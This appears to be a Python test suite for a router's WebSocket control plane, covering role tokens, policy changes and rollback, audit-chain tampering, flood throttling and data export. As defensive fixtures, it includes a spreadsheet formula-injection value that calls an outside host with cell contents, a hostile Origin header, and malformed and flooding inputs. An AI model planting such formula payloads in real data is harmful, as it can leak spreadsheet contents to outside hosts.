# SPDX-License-Identifier: Apache-2.0
"""The control plane of the real program over a foreign WebSocket client: the door, the calls, live tails, flooding, the commands
that use it, and what a restart remembers."""
import asyncio
import contextlib
import csv
import io
import json
import os
import signal
import sqlite3
import subprocess
import sys
import unittest
import venv
from pathlib import Path

VENV = Path(os.environ.get("SIGNALBOX_FLOW_VENV", "flow-venv") + "-control")
sys.path.insert(0, str(Path(__file__).resolve().parent.parent))


def inside_venv():
    """Starts this script again with the `websockets` package at hand; the environment is kept for the next run."""
    python = VENV / "bin" / "python"
    if Path(sys.prefix).resolve() == VENV.resolve():
        return
    if not (VENV / "ready").exists():
        venv.create(VENV, with_pip=True, clear=True)
        made = subprocess.run([python, "-m", "pip", "install", "--quiet", "--disable-pip-version-check", "websockets>=13"],
                              capture_output=True, text=True)
        if made.returncode != 0:
            print("SKIPPED: the websockets package cannot be installed here:\n" + made.stderr, file=sys.stderr)
            sys.exit(77)
        (VENV / "ready").touch()
    os.execv(python, [python, *sys.argv])


if __name__ == "__main__":
    inside_venv()

import websockets  # noqa: E402
from websockets.asyncio.client import connect as open_socket  # noqa: E402

from harness import SLOWER, FlowTest, Program, Router, row, run, simulate, until, write_outcomes  # noqa: E402


def policy(gate, step=0.05):
    return {"workloads": [{"name": "all", "route": {"strategy": "cascade"},
                           "gate": {"local": {"signal": "mean-token", "escalate-below": gate}}}], "guardrails": {"max-step": step}}


class Refused(Exception):
    def __init__(self, error):
        super().__init__(json.dumps(error))
        self.code, self.data = error["code"], error.get("data") or {}


class Console:
    """One connection: calls by id, deltas by subscription."""

    def __init__(self, router, token=None, **headers):
        self.router, self.headers = router, {"Authorization": f"Bearer {token or router.control_token}", **headers}
        self.next_id, self.answers, self.deltas = 0, {}, []

    async def __aenter__(self):
        self.socket = await open_socket(self.router.control_url + "/control", subprotocols=["signalbox.control.v1"],
                                        additional_headers=self.headers, max_size=None, proxy=None)
        return self

    async def __aexit__(self, *_):
        await self.socket.close()

    async def read(self):
        message = json.loads(await asyncio.wait_for(self.socket.recv(), 30))
        if "method" in message:
            self.deltas.append(message)
        else:
            self.answers[message["id"]] = message

    async def call(self, method, **params):
        self.next_id += 1
        number = self.next_id
        await self.socket.send(json.dumps({"jsonrpc": "2.0", "id": number, "method": method, "params": params}))
        while number not in self.answers:
            await self.read()
        message = self.answers.pop(number)
        if "error" in message:
            raise Refused(message["error"])
        return message["result"]

    async def delta(self, method, fits=lambda params: True):
        while True:
            for message in self.deltas:
                if message["method"] == method and fits(message["params"]):
                    self.deltas.remove(message)
                    return message["params"]
            await self.read()


class ControlTest(FlowTest):
    def setUp(self):
        super().setUp()
        rows = [row(1, "sure?", "yes", small=(1, 0.95), large=(1, 0.99)), row(2, "unsure?", "yes", small=(0, 0.40), large=(1, 0.99))]
        upstreams = self.enter(simulate(write_outcomes(self.folder / "rows.jsonl", rows), "small", "large"))
        os.environ.update(FLOW_VIEWER="viewer-token-of-the-flow", FLOW_TUNER="tuner-token-of-the-flow", FLOW_ADMIN="admin-token-of-the-flow")
        tokens = [{"name": role, "role": role, "token": {"env": f"FLOW_{role.upper()}"}} for role in ("viewer", "tuner", "admin")]
        self.router = Router(
            self.folder,
            [{"name": n, "api": "openai", "base_url": upstreams.urls[n], "models": [{"id": n, "logprobs": True}]} for n in ("small", "large")],
            [{"name": "local", "deployments": ["small/small"], "timeout": "10s"}, {"name": "frontier", "deployments": ["large/large"], "timeout": "10s"}],
            policy(0.5), extra={"control": {"tokens": tokens}})
        self.start()
        self.addCleanup(lambda: self.router.__exit__())

    def start(self):
        self.router.start()
        self.router.control_token = "admin-token-of-the-flow"

    def ask(self, prompt):
        status, headers, body = self.router.chat(prompt)
        self.assertEqual(status, 200, body)
        return headers["x-signalbox-decision-id"]

    def command(self, *arguments, token="FLOW_ADMIN", patience=60 * SLOWER):
        return run(*arguments, "--url", self.router.control_url, "--token-env", token, env=self.router.env, patience=patience)

    def test_guards_its_door(self):
        async def status(path="/control", token="admin-token-of-the-flow", protocols=("signalbox.control.v1",), **headers):
            if token:
                headers["Authorization"] = f"Bearer {token}"
            try:
                async with open_socket(self.router.control_url + path, subprotocols=list(protocols) or None, additional_headers=headers, proxy=None) as ws:
                    return ws.subprotocol
            except websockets.InvalidStatus as refused:
                return refused.response.status_code

        async def check():
            self.assertEqual(await status(), "signalbox.control.v1")
            self.assertEqual(await status(token="wrong"), 401)
            self.assertEqual(await status(token=None), 401)
            self.assertEqual(await status(Origin="https://evil.example"), 403)
            self.assertEqual(await status(path="/elsewhere"), 404)
            self.assertEqual(await status(path="/control?token=admin-token-of-the-flow", token=None), 400)
            self.assertEqual(await status(protocols=()), 400)

        asyncio.run(check())

    def test_tails_explains_grades_and_measures(self):
        async def check():
            async with Console(self.router) as console:
                hello = await console.call("hello", protocol=1, client="flow")
                self.assertEqual((hello["role"], hello["tiers"], hello["policy"]["live"]), ("admin", ["local", "frontier"], 1))
                tail = await console.call("decisions.subscribe", backlog=10)
                self.assertEqual(tail["items"], [])
                sure, unsure = self.ask("sure?"), self.ask("unsure?")
                seen = {}
                while len(seen) < 2:
                    delta = await console.delta("decisions.delta")
                    seen.update({item["id"]: item for item in delta["items"]})
                self.assertEqual((seen[sure]["final_tier"], seen[unsure]["final_tier"]), ("local", "frontier"))
                self.assertEqual((seen[sure]["escalations"], seen[unsure]["escalations"]), (0, 1))
                detail = await console.call("decisions.get", id=unsure)
                self.assertEqual(detail["gates"], [0.5, None])
                self.assertEqual([attempt["tier"] for attempt in detail["attempts"]], ["local", "frontier"])
                self.assertIn("gate_escalated", [step["code"] for step in detail["steps"]])
                await console.call("labels.add", decision_id=sure, score=1)
                await console.call("labels.add", decision_id=unsure, score=0, note="no")
                for _ in range(200):  # the figures hear of a grade behind its commit
                    total = (await console.call("metrics.query", since="2020-01-01", until="2100-01-01"))["total"]
                    if total["graded"] == 2:
                        break
                    await asyncio.sleep(0.05)
                self.assertEqual((total["requests"], total["escalated"], total["graded"], total["correct"]), (2, 1, 2, 1.0))
                self.assertEqual(total["escalation_rate"]["n"], 2)
                page = await console.call("decisions.query", limit=1)
                self.assertEqual((page["items"][0]["id"], page["count"]), (unsure, 2))
                older = await console.call("decisions.query", limit=5, before=page["next"])
                self.assertEqual([item["id"] for item in older["items"]], [sure])
                filtered = await console.call("decisions.query", where={"final_tier": "local"})
                self.assertEqual([item["id"] for item in filtered["items"]], [sure])
                last = tail["seq"]
            async with Console(self.router) as console:
                resumed = await console.call("decisions.subscribe", last=last)
                self.assertEqual([item["id"] for item in resumed["items"]], [sure, unsure])
                self.assertNotIn("gap", resumed)

        asyncio.run(check())

    def test_no_question_of_a_viewer_ends_the_router(self):
        async def check():
            async with Console(self.router, "viewer-token-of-the-flow") as viewer:
                for align in ("Europe", "posix/America", "/", "..", "Europe/Nowhere"):
                    with self.assertRaises(Refused) as refused:
                        await viewer.call("metrics.query", since="2026-01-01T00:00:00Z", until="2026-01-02T00:00:00Z", bucket="1h", align=align)
                    self.assertEqual(refused.exception.code, -32602, align)
                self.assertEqual((await viewer.call("policy.get"))["revision"], 1)

        asyncio.run(check())
        self.ask("sure?")

    def test_changes_the_policy_safely(self):
        async def check():
            async with Console(self.router, "viewer-token-of-the-flow") as viewer, Console(self.router, "tuner-token-of-the-flow") as tuner:
                watching = await viewer.call("policy.subscribe")
                self.assertEqual((watching["live"], watching["confirmed"]), (1, True))
                with self.assertRaises(Refused) as refused:
                    await viewer.call("policy.apply", nonsense=True)
                self.assertEqual((refused.exception.code, refused.exception.data["role"]), (4030, "tuner"))
                applied = await tuner.call("policy.apply", policy=policy(0.45), base=1, reason="flow")
                self.assertEqual(applied["revision"], 2)
                told = await viewer.delta("policy.delta")
                self.assertEqual((told["live"], told["confirmed"], told["by"]), (2, False, "tuner"))
                self.assertEqual(self.router.decision(self.ask("sure?"))["policy"], 2)
                for params, code in (({"policy": policy(0.44), "base": 1}, 4090), ({"policy": policy(0.9), "base": 2}, 4220),
                                     ({"policy": {"workloads": "none"}, "base": 2}, -32602), ({"policy": policy(0.44), "base": 2, "confirm_within_s": 0}, 4030)):
                    with self.assertRaises(Refused) as refused:
                        await tuner.call("policy.apply", **params)
                    self.assertEqual(refused.exception.code, code, params)
                await tuner.call("policy.confirm", revision=2)
                self.assertTrue((await viewer.delta("policy.delta"))["confirmed"])
                short = await tuner.call("policy.apply", policy=policy(0.40), base=2, confirm_within_s=1)
                self.assertEqual(short["revision"], 3)
                reverted = await viewer.delta("policy.delta", lambda state: state["live"] == 4)
                self.assertTrue(reverted["confirmed"])
                history = await viewer.call("policy.history", limit=10)
                self.assertEqual([(one["revision"], one["state"], one.get("restores")) for one in history],
                                 [(4, "live", 2), (3, "reverted", None), (2, "ended", None), (1, "ended", None)])
                back = await tuner.call("policy.rollback", to=1, reason="flow")
                self.assertEqual(back["revision"], 5)
                audit = await viewer.call("audit.list", limit=20)
                self.assertTrue(audit["chain"]["verified"])
                self.assertIn("policy.revert", [entry["action"] for entry in audit["entries"]])

        asyncio.run(check())

    def test_remembers_and_reverts_across_a_restart(self):
        async def apply():
            async with Console(self.router) as console:
                await console.call("policy.apply", policy=policy(0.45), base=1, confirm_within_s=2)

        async def look(wanted):
            async with Console(self.router) as console:
                state = await console.call("policy.subscribe")
                if state["live"] != wanted:
                    state = await console.delta("policy.delta", lambda s: s["live"] == wanted)
                return state, (await console.call("policy.get"))["policy"]

        asyncio.run(apply())
        self.assertEqual(self.router.stop(), 0)
        self.start()
        state, live = asyncio.run(look(3))
        self.assertTrue(state["confirmed"])
        self.assertEqual(live, policy(0.5))

    def test_throttles_a_flood_and_then_closes(self):
        async def check():
            console = Console(self.router, "viewer-token-of-the-flow")
            async with console:
                for number in range(300):
                    try:
                        await console.socket.send(json.dumps({"jsonrpc": "2.0", "id": number, "method": "hello"}))
                    except websockets.ConnectionClosed:
                        break
                with self.assertRaises(websockets.ConnectionClosed) as closed:
                    while True:
                        await console.read()
                self.assertEqual(closed.exception.rcvd.code, 1008)
                throttled = [m for m in console.answers.values() if m.get("error", {}).get("code") == 4290]
                self.assertGreater(len(throttled), 0)
            self.ask("sure?")  # the data plane does not mind

        asyncio.run(check())

    def test_answers_junk_and_goes_on(self):
        async def check():
            async with Console(self.router) as console:
                for text, code in (("{", -32700), ("[]", -32600), ('{"jsonrpc":"2.0","id":1,"method":"nope"}', -32601), ("[" * 5000, -32700)):
                    await console.socket.send(text)
                    message = json.loads(await asyncio.wait_for(console.socket.recv(), 30))
                    self.assertEqual(message["error"]["code"], code, text[:40])
                self.assertEqual((await console.call("hello"))["protocol"], 1)

        asyncio.run(check())

    def test_serves_the_commands(self):
        shown = self.command("policy", "show", "--json")
        self.assertEqual(shown.returncode, 0, shown.stderr)
        self.assertEqual(json.loads(shown.stdout)["policy"], policy(0.5))
        file = self.folder / "next.yaml"
        file.write_text(self.command("policy", "show").stdout.replace("0.5\n", "0.47\n"))
        changes = self.command("policy", "diff", file)
        self.assertIn("0.47", changes.stdout, changes.stderr)
        applied = self.command("policy", "apply", file, "--reason", "by hand", token="FLOW_TUNER")
        self.assertEqual(applied.returncode, 0, applied.stderr)
        self.assertIn("revision 2", applied.stdout)
        self.assertEqual(self.command("policy", "confirm", token="FLOW_TUNER").returncode, 0)
        self.assertEqual(self.command("policy", "rollback", "1", token="FLOW_VIEWER").returncode, 1)
        self.assertEqual(self.command("policy", "rollback", "1").returncode, 0)
        self.assertIn("restores 1", self.command("policy", "history").stdout)
        verified = self.command("policy", "audit", "--verify")
        self.assertIn("whole", verified.stdout, verified.stderr)
        file.write_text("workloads:\n  - name: all\n    gaet: {}\n")
        wrong = self.command("policy", "apply", file)
        self.assertEqual(wrong.returncode, 1)
        self.assertIn(f"{file}:3:", wrong.stderr)
        self.assertEqual(run("policy", "show", "--url", "http://x", "--token-env", "FLOW_ADMIN").returncode, 2)
        self.assertEqual(run("policy").returncode, 2)
        os.environ["FLOW_WRONG"] = "wrong"
        self.assertIn("does not know this token", self.command("policy", "show", token="FLOW_WRONG").stderr)

    def test_shows_where_the_audit_chain_is_broken(self):
        file = self.folder / "next.yaml"
        file.write_text(json.dumps(policy(0.47)))
        self.assertEqual(self.command("policy", "apply", file, "--reason", "by hand").returncode, 0)
        whole = self.command("policy", "audit", "--verify", "--json")
        found = json.loads(whole.stdout)
        self.assertEqual((whole.returncode, found["verified"]), (0, True), whole.stderr)
        with contextlib.closing(sqlite3.connect(self.folder / "signalbox.db", timeout=10)) as store, store:
            (changed,) = store.execute("SELECT seq FROM audit WHERE reason = 'by hand'").fetchone()
            store.execute("UPDATE audit SET reason = 'nobody''s' WHERE seq = ?", (changed,))
        broken = self.command("policy", "audit", "--verify", "--json")
        found = json.loads(broken.stdout)
        self.assertEqual((broken.returncode, found["verified"], found["broken_at"]), (1, False, changed))
        self.assertIn(f"broken at entry {changed}", broken.stderr)
        self.assertEqual(self.command("policy", "audit").returncode, 1)

    def test_tails_from_the_command_line(self):
        first = self.ask("sure?")
        self.router.decision(first)
        tail = self.enter(Program("tail", "--json", "--url", self.router.control_url, "--token-env", "FLOW_VIEWER", env=self.router.env))
        until(lambda: tail.lines, "the backlog is shown")
        second = self.ask("unsure?")
        until(lambda: len(tail.lines) > 1, "the live decision is shown")
        self.assertEqual([json.loads(line)["id"] for line in tail.lines], [first, second])
        self.assertEqual(tail.stop(signal.SIGINT), 130)

    def test_exports_what_the_store_holds(self):
        ids = [self.ask("sure?"), self.ask("unsure?")]
        for one in ids:
            self.router.decision(one)
        store = self.folder / "signalbox.db"
        status, _, body = self.router.request("POST", "/v1/feedback", {"decision_id": ids[1], "score": 1})
        self.assertEqual(status, 200, body)
        decisions = list(csv.DictReader(io.StringIO(run("export", "decisions", "--store", store).stdout, newline="")))
        self.assertEqual([one["id"] for one in decisions], ids)
        self.assertEqual([one["final_tier"] for one in decisions], ["local", "frontier"])
        self.assertTrue(decisions[0]["ts"].endswith("Z"))
        attempts = [json.loads(line) for line in run("export", "attempts", "--store", store, "--format", "jsonl").stdout.splitlines()]
        self.assertEqual([one["decision_id"] for one in attempts], [ids[0], ids[1], ids[1]])
        filtered = run("export", "decisions", "--store", store, "--where", '{"final_tier": "local"}', "--format", "jsonl").stdout
        self.assertEqual([json.loads(line)["id"] for line in filtered.splitlines()], ids[:1])
        labels = until(lambda: run("export", "labels", "--store", store).stdout.splitlines()[1:], "the label is exported")
        self.assertTrue(labels[0].startswith(ids[1]))
        self.assertEqual(run("export", "decisions", "--store", self.folder / "none.db").returncode, 1)
        self.assertEqual(run("export", "nothing").returncode, 2)

    def test_exports_no_text_that_a_spreadsheet_would_run(self):
        formula = '=HYPERLINK("http://example.org/"&A1)'
        status, headers, _ = self.router.chat("sure?", headers={"x-signalbox-session": formula})
        self.assertEqual(status, 200)
        self.router.decision(headers["x-signalbox-decision-id"])
        store = self.folder / "signalbox.db"
        row, = csv.DictReader(io.StringIO(run("export", "decisions", "--store", store).stdout, newline=""))
        self.assertEqual(row["session"], "'" + formula)
        self.assertFalse([name for name, cell in row.items() if cell[:1] in "=+-@" and cell and not cell[1:2].isdigit()])
        exact = json.loads(run("export", "decisions", "--store", store, "--format", "jsonl").stdout)
        self.assertEqual(exact["session"], formula)

    def test_exports_every_column_of_an_attempt(self):
        self.router.decision(self.ask("unsure?"))
        store = self.folder / "signalbox.db"
        names = run("export", "attempts", "--store", store).stdout.splitlines()[0].split(",")
        written = [json.loads(line) for line in run("export", "attempts", "--store", store, "--format", "jsonl").stdout.splitlines()]
        self.assertEqual(sorted(names), sorted({name for one in written for name in one}))


if __name__ == "__main__":
    unittest.main()
